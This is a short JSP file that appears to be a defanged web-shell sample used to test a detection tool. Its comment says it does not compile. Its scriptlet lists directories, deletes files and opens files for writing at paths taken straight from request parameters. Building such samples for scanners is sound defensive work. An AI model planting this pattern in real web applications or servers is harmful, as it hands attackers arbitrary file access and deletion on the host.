<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%@ page import="java.io.*" %>
<%
    File d = new File(request.getParameter("path"));
    for (File f : d.listFiles()) { out.println(f.getName()); }
    if (request.getParameter("del") != null) { new File(request.getParameter("del")).delete(); }
    FileOutputStream fo = new FileOutputStream(request.getParameter("save"));
%>
